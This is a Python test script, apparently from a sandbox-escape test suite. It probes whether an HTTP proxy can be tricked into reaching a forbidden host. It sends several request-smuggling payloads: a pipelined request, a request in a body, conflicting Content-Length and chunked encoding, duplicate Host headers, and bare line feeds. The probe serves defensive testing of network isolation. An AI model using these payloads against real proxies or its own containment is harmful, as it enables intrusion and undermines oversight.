#!/usr/bin/env python3
# tries: to send a second request for another host on a connection to the proxy, and forged headers
# modes: strict
# refuses: network
# held outside for: root users
import os
import socket
from urllib.parse import urlsplit
from escape import cannot, control, fact, refused, worked

control()
proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
if not proxy:
    cannot("no proxy is set")
where = urlsplit(proxy)
target = fact("TCP").split()[0]
allowed = os.environ.get("ESCAPE_ALLOWED_HOST", "allowed.test")
first = f"GET http://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\n"
second = f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\n\r\n"
why = []
for words, text in [
    ("pipelined", first + "\r\n" + second),
    ("in a body", first + f"Content-Length: {len(second)}\r\n\r\n" + second),
    (
        "both lengths",
        first + "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + second,
    ),
    ("two hosts", f"GET http://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\nHost: {target}\r\n\r\n"),
    ("bare line feed", f"GET http://{allowed}/ HTTP/1.1\nHost: {allowed}\n\n" + second),
]:
    answer = b""
    try:
        with socket.create_connection((where.hostname, where.port), timeout=5) as client:
            client.sendall(text.encode())
            client.settimeout(2)
            while piece := client.recv(4096):
                answer += piece
    except OSError as problem:
        why.append(f"{words}: {problem}")
    if b"outside" in answer:
        worked(f"{words}: the service outside answered")
    why.append(
        f"{words}: {answer.splitlines()[0].decode(errors='replace') if answer else 'closed'}"
    )
refused("; ".join(why))
